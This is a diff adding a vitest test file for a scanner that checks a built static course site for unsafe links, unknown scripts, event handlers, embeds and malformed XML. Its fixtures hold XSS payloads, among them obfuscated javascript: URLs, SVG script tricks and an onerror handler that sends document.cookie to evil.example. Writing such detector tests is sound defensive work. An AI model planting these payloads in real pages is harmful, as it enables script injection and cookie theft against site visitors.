@@ -1,0 +1,269 @@
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { dirname, join } from 'node:path';
+import { pathToFileURL } from 'node:url';
+import fc from 'fast-check';
+import { afterAll, describe, expect, it } from 'vitest';
+import type { Finding } from '../src/lib/check/findings.ts';
+import { formatHuman } from '../src/lib/check/report.ts';
+import { inlineScriptHash, OUTPUT_RULES, routedPages, scanOutput, scanOutputInParallel, startOutputScan, type OutputScanOptions } from '../src/lib/safety/output-scan.ts';
+import { checkXml } from '../src/lib/safety/xml-wellformed.ts';
+import { TMP } from './utils.ts';
+
+mkdirSync(TMP, { recursive: true });
+const WORK = mkdtempSync(join(TMP, 'output-scan-'));
+afterAll(() => rmSync(WORK, { recursive: true, force: true }));
+
+/** The one inline script the hand-written sites below are allowed to contain. */
+const THEME_SCRIPT = '\n\tStarlightThemeProvider.updatePickers();\n';
+
+/** A page whose `<body>` tag is on line 5 and whose body content starts on line 6. */
+function page(body: string, { head = '', bodyAttributes = '' } = {}): string {
+	return `<!doctype html>
+<html lang="en">
+<head><meta charset="utf-8"><title>A page</title>${head}
+<script type="module" src="/_astro/page.js"></script></head>
+<body${bodyAttributes}>
+${body}
+<script>${THEME_SCRIPT}</script></body></html>
+`;
+}
+
+/** What Astro 7 writes for a route in `redirects` (seen in a real build of the valid-course fixture). */
+function redirectPage(to: string): string {
+	return `<!doctype html><title>Redirecting to: ${to}</title><meta http-equiv="refresh" content="0;url=${to}"><meta name="robots" content="noindex"><link rel="canonical" href="https://steeped.example.org${to}"><body>\t<a href="${to}">Redirecting from <code>/modules/old/</code> to <code>${to}</code></a></body>`;
+}
+
+/** A small site with everything the engine legitimately ships. Scanned alone it has no findings. */
+const CLEAN_SITE: Record<string, string> = {
+	'index.html': page(`<a href="/modules/x/">Start</a> <a href="https://example.org/a?b=c">Elsewhere</a> <a href="mailto:team@example.org">Mail</a> <a href="#top">Top</a>
+<img alt="Logo" src="/_astro/logo.svg" srcset="/_astro/logo.svg 1x, /_astro/logo@2x.png 2x">
+<svg aria-hidden="true"><use href="#icon-sun"></use></svg>
+<script type="application/ld+json">{"@context":"https://schema.org","@type":"Course","name":"Tea"}</script>
+<script src="scripts/own.js"></script>
+<template id="theme-icons"><svg class="light"><path d="M0 0h1"/></svg></template>`),
+	'modules/x/index.html': page('<h1>Module</h1><p>Text with a literal &lt;script&gt; in it.</p><pre><code>onclick="x"</code></pre>'),
+	'modules/old/index.html': redirectPage('/modules/x/'),
+	'404.html': page('<h1>Not found</h1>'),
+	'_astro/page.js': 'console.log(1);\n',
+	'scripts/own.js': 'console.log(2);\n',
+	'_astro/logo.svg': `<?xml version="1.0" encoding="UTF-8"?>
+<!-- Exported by an editor -->
+<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">
+  <defs><path id="a" d="M0 0h10v10z"/></defs>
+  <use xlink:href="#a"/>
+  <image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>
+  <a href="https://example.org/"><text>Tea &amp; cake</text></a>
+</svg>
+`,
+	'feed.xml': `<?xml version="1.0" encoding="utf-8"?>
+<feed xmlns="http://www.w3.org/2005/Atom">
+  <title>Tea: what&apos;s new</title>
+  <entry><title type="html">&lt;b&gt;Kettles&lt;/b&gt; &#8212; &#x2014;</title><content type="html"><![CDATA[<p>Presets & more</p>]]></content></entry>
+</feed>
+`,
+	'sitemap-index.xml': '<?xml version="1.0" encoding="UTF-8"?><sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><sitemap><loc>https://steeped.example.org/sitemap-0.xml</loc></sitemap></sitemapindex>',
+};
+/** The routes of the clean site, in both forms `routedPages()` returns: addresses and redirect files. */
+const CLEAN_ROUTES = ['', 'modules/x/', '404/', 'modules/old/index.html'];
+
+let sites = 0;
+/** Writes the clean site plus `extra` to a fresh folder and scans it; extra pages are routed unless `unrouted`. */
+function scanSite(extra: Record<string, string> = {}, options: Partial<OutputScanOptions> & { unrouted?: boolean } = {}): Finding[] {
+	const dir = writeSite({ ...CLEAN_SITE, ...extra });
+	const routes = new Set(CLEAN_ROUTES);
+	if (!options.unrouted) for (const file of Object.keys(extra)) routes.add(file.replace(/index\.html$/, ''));
+	return scanOutput({ dir, allowedInlineScripts: new Set([inlineScriptHash(THEME_SCRIPT)]), routedPages: routes, ...options });
+}
+
+function writeSite(files: Record<string, string>): string {
+	const dir = join(WORK, `site-${++sites}`, 'dist');
+	for (const [file, text] of Object.entries(files)) {
+		mkdirSync(dirname(join(dir, file)), { recursive: true });
+		writeFileSync(join(dir, file), text);
+	}
+	return dir;
+}
+
+const places = (findings: Finding[]) => findings.map((f) => [f.file, f.rule, f.line]);
+
+describe('scanning the built site', () => {
+	it('passes a clean site with scripts, redirects, SVG, feed and sitemap', () => {
+		expect(scanSite()).toEqual([]);
+	});
+
+	/** Each attack is one file added to the clean site, with the findings it must produce. */
+	const ATTACKS: readonly [name: string, file: string, text: string, expected: [rule: string, line: number][]][] = [
+		['a javascript: URL among srcset candidates', 'modules/a/index.html', page('<img alt="" srcset="a.png 1x, javascript:alert(1) 2x">'), [['output-unsafe-url', 6]]],
+		['a scheme split by an encoded tab', 'modules/a/index.html', page('<a href="java&#x09;script:x">x</a>'), [['output-unsafe-url', 6]]],
+		['an entity-encoded, upper-case or padded scheme', 'modules/a/index.html', page('<A HREF="&#106;avascript:x">a</A>\n<a href="  \x01VBScript:x">b</a>\n<img alt="" src="DATA:text/html,<script>x</script>">\n<video poster="javascript:x"></video>'), [['output-unsafe-url', 6], ['output-unsafe-url', 7], ['output-unsafe-url', 8], ['output-unsafe-url', 9]]],
+		['xlink:href in inline SVG', 'modules/a/index.html', page('<svg><a xlink:href="javascript:x"><text>x</text></a></svg>'), [['output-unsafe-url', 6]]],
+		['an SVG animation that sets a link', 'modules/a/index.html', page('<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>'), [['output-unsafe-url', 6]]],
+		['a button formaction', 'modules/a/index.html', page('<button formaction="JaVaScRiPt:alert(1)">Go</button>'), [['output-unsafe-url', 6]]],
+		['an inline script with an unknown hash', 'modules/a/index.html', page('<script>alert(1)</script>'), [['output-script', 6]]],
+		['a script in a template', 'modules/a/index.html', page('<template><script>alert(1)</script></template>'), [['output-script', 6]]],
+		['JSON-LD that is not JSON', 'modules/a/index.html', page('<script type="application/ld+json">alert(1)</script>'), [['output-script', 6]]],
+		['a script from another site', 'modules/a/index.html', page('<script src="https://evil.example/x.js"></script>\n<script src="//evil.example/x.js"></script>'), [['output-script', 6], ['output-script', 7]]],
+		['a script path that is not in the output', 'modules/a/index.html', page('<script src="/scripts/missing.js"></script>'), [['output-script', 6]]],
+		['an SVG script loaded by href in a page', 'modules/a/index.html', page('<svg><script href="https://evil.example/x.js"></script></svg>'), [['output-script', 6]]],
+		['onload on body', 'modules/a/index.html', page('<p>Hi</p>', { bodyAttributes: ' onload="alert(1)"' }), [['output-event-handler', 5]]],
+		['an image breaking out of SVG style', 'modules/a/index.html', page('<svg><style><img src="x" onerror="alert(1)"></style></svg>'), [['output-event-handler', 6]]],
+		[
+			'embeds, forms and base',
+			'modules/a/index.html',
+			page('<iframe src="https://example.org/"></iframe>\n<object data="x.swf"></object>\n<embed src="x.swf">\n<form action="/x"><input></form>\n<base href="https://evil.example/">'),
+			[['output-element', 6], ['output-element', 7], ['output-element', 8], ['output-element', 9], ['output-element', 10]],
+		],
+		['frames', 'modules/a/index.html', '<!doctype html>\n<html><head><title>F</title></head>\n<frameset>\n<frame src="/x/">\n</frameset></html>', [['output-element', 3], ['output-element', 4]]],
+		['a refresh on an ordinary page', 'modules/a/index.html', page('<p>Hi</p>', { head: '<meta http-equiv="refresh" content="0;url=/x/">' }), [['output-element', 3]]],
+		['a redirect page that leaves the site', 'modules/a/index.html', redirectPage('https://evil.example/'), [['output-element', 1]]],
+		['a redirect page to a script URL', 'modules/a/index.html', redirectPage('javascript:alert(1)'), [['output-element', 1], ['output-unsafe-url', 1], ['output-unsafe-url', 1]]],
+		['an HTML file no route rendered', 'stray.html', page('<p>Hi</p>'), [['output-unrouted-page', 0]]],
+		['an SVG with a script', '_astro/evil.svg', '<svg xmlns="http://www.w3.org/2000/svg">\n  <script>alert(1)</script>\n</svg>', [['output-script', 2]]],
+		[
+			'an SVG with a foreign object, a handler and script links',
+			'_astro/evil.svg',
+			'<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" onload="alert(1)">\n<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>\n<a x:href="java&#x73;cript:alert(1)"><text>x</text></a>\n<a href="#"><set attributeName="href" to="javascript:alert(1)"/><text>y</text></a>\n</svg>',
+			[['output-event-handler', 1], ['output-element', 2], ['output-unsafe-url', 3], ['output-unsafe-url', 4]],
+		],
+		['an SVG with a document type declaration', '_astro/evil.svg', '<!DOCTYPE svg [<!ENTITY x "javascript:alert(1)">]>\n<svg xmlns="http://www.w3.org/2000/svg"><a href="&x;"/></svg>', [['output-xml', 1]]],
+		['a feed with a raw control character', 'feed.xml', '<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom">\n<entry>\n<title>Bad \u0001 title</title>\n</entry>\n</feed>\n', [['output-xml', 4]]],
+		['a feed with an unclosed tag', 'feed.xml', '<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom">\n<entry>\n<title>Unclosed entry</title>\n</feed>\n', [['output-xml', 3]]],
+		['a sitemap with an HTML entity', 'sitemap-0.xml', '<urlset>\n<url><loc>https://x.example/a&nbsp;b</loc></url>\n</urlset>', [['output-xml', 2]]],
+	];
+
+	it.each(ATTACKS)('reports %s', (_name, file, text, expected) => {
+		expect(places(scanSite({ [file]: text }, { unrouted: file === 'stray.html' }))).toEqual(expected.map(([rule, line]) => [`dist/${file}`, rule, line]));
+	});
+
+	it('uses only documented rule ids', () => {
+		const rules = new Set(ATTACKS.flatMap(([, , , expected]) => expected.map(([rule]) => rule)));
+		expect([...rules].sort()).toEqual(Object.keys(OUTPUT_RULES).sort());
+	});
+
+	it('names the element, the source file and the fix', () => {
+		const findings = scanSite({ 'modules/tea/index.html': page('<p>Steep.</p>\n<img alt="" src="x.png" onerror="fetch(`https://evil.example/?`+document.cookie)">') }, { sourceOf: (address) => (address === 'modules/tea/' ? 'content/modules/tea.mdx' : undefined) });
+		expect(formatHuman(findings)).toMatchInlineSnapshot(`
+			"dist/modules/tea/index.html:7:25  error  The <img> element has an event handler, onerror="fetch(\`https://evil.example/?\`+document.cookie)", which runs JavaScript. The page was built from content/modules/tea.mdx.  output-event-handler
+			  fix: Remove the attribute from content/modules/tea.mdx. Content cannot run code.
+			  see: /contributing/rules/output-event-handler/
+
+			1 error, 0 warnings."
+		`);
+	});
+});
+
+describe('a scan started before the build ends', () => {
+	it('scans again the files added or changed after it started', async () => {
+		const files: Record<string, string> = {};
+		for (let i = 0; i < 250; i++) files[`p${i}/index.html`] = page(`<p>Page ${i}</p>`);
+		const dir = writeSite(files);
+		const finish = startOutputScan({ dir, allowedInlineScripts: new Set([inlineScriptHash(THEME_SCRIPT)]) }, 2);
+		// What later build steps might do while the workers read: rewrite a page, add a file.
+		writeFileSync(join(dir, 'p1/index.html'), page('<script>alert(1)</script>'));
+		writeFileSync(join(dir, 'feed.xml'), '<feed>');
+		const findings = await finish({ routedPages: new Set(Object.keys(files).map((file) => file.replace(/index\.html$/, ''))) });
+		expect(places(findings)).toEqual([
+			['dist/feed.xml', 'output-xml', 1],
+			['dist/p1/index.html', 'output-script', 6],
+		]);
+	});
+});
+
+describe('the routes of a build', () => {
+	it('takes pages and redirect files from the astro:build:done parameters', () => {
+		// The shape Astro 7 passes: `pages` lists rendered pages only; `assets` maps every route to its files.
+		const dir = pathToFileURL(join(WORK, 'routes-dist') + '/');
+		const routed = routedPages({
+			dir,
+			pages: [{ pathname: '' }, { pathname: '404/' }, { pathname: 'modules/x/' }],
+			assets: new Map([
+				['/modules/old', [new URL('modules/old/index.html', dir)]],
+				['/feed.xml', [new URL('feed.xml', dir)]],
+			]),
+		});
+		expect([...routed].sort()).toEqual(['', '404/', 'feed.xml', 'modules/old/index.html', 'modules/x/']);
+	});
+});
+
+describe('the XML well-formedness check', () => {
+	const problem = (text: string) => checkXml(text)?.message ?? null;
+
+	it('accepts a document with a declaration, comments, instructions, CDATA and references', () => {
+		expect(problem('\uFEFF<?xml version="1.0"?>\n<!-- c --><!----><?xml-stylesheet href="a.xsl"?><a x=\'1\' y="&amp;&#60;&#x3C;"><![CDATA[<&]]>&lt;<b/></a>\n')).toBeNull();
+	});
+
+	it.each([
+		['<!DOCTYPE a><a/>', 'document type declaration'],
+		['<a>&nbsp;</a>', 'write a literal & as `&amp;`'],
+		['<a>&#1;</a>', 'names a character XML does not allow'],
+		['<a x=1/>', 'must be in quotes'],
+		['<a x="1" x="2"/>', 'appears twice'],
+		['<a x="<"/>', 'contains `<`'],
+		['<a><b></a></b>', 'The element <b> is not closed before </a>'],
+		['<a></a><b></b>', 'exactly one root element'],
+		['text<a/>', 'outside the root element'],
+		['<a>]]></a>', '`]]>` is not allowed'],
+		['<a><!-- a -- b --></a>', 'contains `--`'],
+		['<a><!-- a ---></a>', 'contains `--`'],
+		[' <?xml version="1.0"?><a/>', 'only at the very start'],
+		['<a>', 'The element <a> is never closed'],
+		['', 'no root element'],
+		['<a>\uFFFE</a>', 'U+FFFE'],
+		['<a>\uD800</a>', 'U+D800'],
+	])('rejects %j', (text, message) => {
+		expect(problem(text)).toContain(message);
+	});
+
+	it('accepts any legal text once escaped, and reads attribute values back unchanged', () => {
+		const legal = fc.string({ unit: 'grapheme' }).map((s) => s.replace(/[\0-\x08\x0B\x0C\x0E-\x1F\uFFFE\uFFFF]/g, ''));
+		const escape = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
+		fc.assert(
+			fc.property(legal, (s) => {
+				let value: string | undefined;
+				const result = checkXml(`<a v="${escape(s)}">${escape(s)}</a>`, (element) => (value = element.attributes[0]?.value));
+				return result === null && value === s;
+			})
+		);
+	});
+});
+
+describe('scan speed', () => {
+	/** A page shaped like a module page: Starlight's head, a long sidebar, prose, icons and code. */
+	function generatedPage(i: number): string {
+		const sidebar = Array.from({ length: 120 }, (_, j) => `<li><a href="/modules/module-${j}/" aria-current="false"><span>Module ${j}</span></a></li>`).join('\n');
+		const prose = Array.from({ length: 40 }, (_, j) => `<h2 id="part-${j}">Part ${j}</h2><p>Steep the leaves, taste, <a href="/modules/module-${j}/#part">adjust</a> the time &amp; write it down. <code>x &lt; y</code> ${'Warm the pot first, measure the leaves by weight rather than by spoon, and note the water temperature, because each of them changes the cup more than the brand of tea does. '.repeat(3)}</p><svg aria-hidden="true" class="icon"><path d="M1 2l3 4"/></svg>`).join('\n');
+		return page(`<nav><ul>\n${sidebar}\n</ul></nav><main><h1>Module ${i}</h1>\n${prose}\n<img alt="" src="/_astro/logo.svg" srcset="/_astro/a.png 1x, /_astro/b.png 2x"></main>`);
+	}
+
+	it('reads a folder of generated pages, the same on one thread and on several', async () => {
+		const count = 400;
+		const files: Record<string, string> = {};
+		for (let i = 0; i < count; i++) files[`modules/module-${i}/index.html`] = generatedPage(i);
+		// Two bad pages, so that the parallel scan has something to hand back.
+		files['modules/module-7/index.html'] = generatedPage(7).replace('<h1>', '<h1 onclick="x">');
+		files['modules/module-300/index.html'] = generatedPage(300).replace('</main>', '<script>alert(1)</script></main>');
+		const dir = writeSite(files);
+		const options: OutputScanOptions = { dir, allowedInlineScripts: new Set([inlineScriptHash(THEME_SCRIPT)]), routedPages: new Set(Object.keys(files).map((file) => file.replace(/index\.html$/, ''))) };
+		const megabytes = Object.values(files).reduce((sum, text) => sum + Buffer.byteLength(text), 0) / 1e6;
+
+		let started = performance.now();
+		const single = scanOutput(options);
+		const singleMs = performance.now() - started;
+		started = performance.now();
+		const parallel = await scanOutputInParallel(options);
+		const parallelMs = performance.now() - started;
+
+		expect(places(single)).toEqual([
+			['dist/modules/module-300/index.html', 'output-script', 168],
+			['dist/modules/module-7/index.html', 'output-event-handler', 127],
+		]);
+		expect(parallel).toEqual(single);
+		// Timings vary with the machine, so they are reported rather than asserted.
+		const perPage = (ms: number) => ((ms / count) * 2000) / 1000;
+		console.log(
+			`output scan: ${count} pages, ${megabytes.toFixed(1)} MB (${Math.round((megabytes * 1e3) / count)} KB a page): ` +
+				`${Math.round(singleMs)} ms on one thread, ${Math.round(parallelMs)} ms in parallel; ` +
+				`about ${perPage(singleMs).toFixed(1)} s and ${perPage(parallelMs).toFixed(1)} s for 2,000 such pages`
+		);
+	});
+});
